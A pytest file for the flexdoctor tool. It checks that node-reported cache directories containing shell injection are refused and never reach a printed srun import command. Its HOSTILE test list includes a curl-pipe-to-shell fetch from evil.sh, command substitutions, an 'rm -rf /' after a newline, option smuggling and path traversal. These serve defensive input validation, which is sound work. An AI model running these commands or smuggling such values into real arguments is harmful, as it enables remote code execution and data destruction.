"""fleet merge --bundle prints the command that imports the bundle on the nodes that need it, with
``--cache-dir`` taken from the nodes' reports. A report is outside text: its cache dir is data, never
an option or shell syntax. A dir that is not a plain absolute path (a leading ``-``, ``;``, ``$(...)``,
a line break, ``..``) is not put in any command: the command is not printed and the report says why.
"""

from __future__ import annotations

import hashlib
import json
import shlex
from pathlib import Path

import pytest

import _fleet_nodes as fn
from flexdoctor.fleet import merge_paths
from flexdoctor.render import fleet_json, fleet_markdown, fleet_text
from test_fleet import _bundle


def _config():
    from flexdoctor import workload

    return workload.make(dtype="float16", heads=8, seq_len=1024, head_dim=64)


def _fleet_with_dir(tmp_path: Path, cache_dir: str, slurm: bool = True):
    bundle = _bundle(tmp_path, fn.load_facts_dict("h100")["cache"]["manifest"]["fingerprint"], [_config()])

    def hostile(d):
        d["cache"]["inductor"]["path"] = cache_dir

    reports = {"gpu001": fn.report_for("gpu001", change=hostile, slurm=slurm),
               "gpu002": fn.report_for("gpu002", change=hostile, slurm=slurm)}
    fn.write(tmp_path / "r", reports)
    return bundle, merge_paths([str(tmp_path / "r")], bundle=str(bundle))


HOSTILE = [
    "-rf",  # an option, not a folder
    "--import=/tmp/evil.zip",
    "/data/x; curl evil.sh | sh",
    "/data/$(touch /tmp/pwned)",
    "/data/`id`",
    "/data/x\nrm -rf /",
    "/data/x\x1b[2J",
    "relative/dir",
    "/data/../../etc",
    "",
]


@pytest.mark.parametrize("cache_dir", HOSTILE)
def test_a_hostile_cache_dir_never_reaches_the_printed_command(tmp_path, cache_dir):
    bundle, report = _fleet_with_dir(tmp_path, cache_dir)
    b = report.bundle
    assert b.having("import") == ["gpu001", "gpu002"]
    assert b.ship == ()  # no command at all rather than one with the report's words in it
    assert b.ship_refused == ("gpu001", "gpu002")
    text = fleet_text.render(report, width=240)
    assert "--sha256" not in text
    assert "Not printed: the report of 2 nodes (gpu[001-002])" in text
    doc = fleet_json.to_dict(report)
    assert doc["bundle"]["ship"] == [] and doc["bundle"]["ship_refused"] == ["gpu001", "gpu002"]
    assert "--sha256" not in fleet_markdown.render(report)


@pytest.mark.parametrize("cache_dir", ["/data/inductor cache", "/scratch/fd_w.2+x/キャッシュ", "/tmp/fdw"])
def test_a_plain_absolute_dir_is_one_quoted_argument(tmp_path, cache_dir):
    bundle, report = _fleet_with_dir(tmp_path, cache_dir)
    (command,) = report.bundle.ship
    pin = hashlib.sha256(bundle.read_bytes()).hexdigest()
    argv = shlex.split(command)
    assert argv[:4] == ["srun", "--nodelist=gpu[001-002]", "--nodes=2", "--ntasks-per-node=1"]
    assert argv[4:] == ["flexdoctor", "warm-cache", "--import", str(bundle), "--sha256", pin, "--cache-dir", cache_dir]
    assert report.bundle.ship_refused == ()
    assert json.loads(json.dumps(fleet_json.to_dict(report)))["bundle"]["ship"] == [command]


def test_one_bad_report_among_good_ones_prints_no_command(tmp_path):
    bundle = _bundle(tmp_path, fn.load_facts_dict("h100")["cache"]["manifest"]["fingerprint"], [_config()])

    def path(value):
        def change(d):
            d["cache"]["inductor"]["path"] = value
        return change

    fn.write(tmp_path / "r", {"gpu001": fn.report_for("gpu001", change=path("/tmp/fdw")),
                              "gpu002": fn.report_for("gpu002", change=path("/tmp/fdw;reboot"))})
    report = merge_paths([str(tmp_path / "r")], bundle=str(bundle))
    assert report.bundle.ship == () and report.bundle.ship_refused == ("gpu002",)
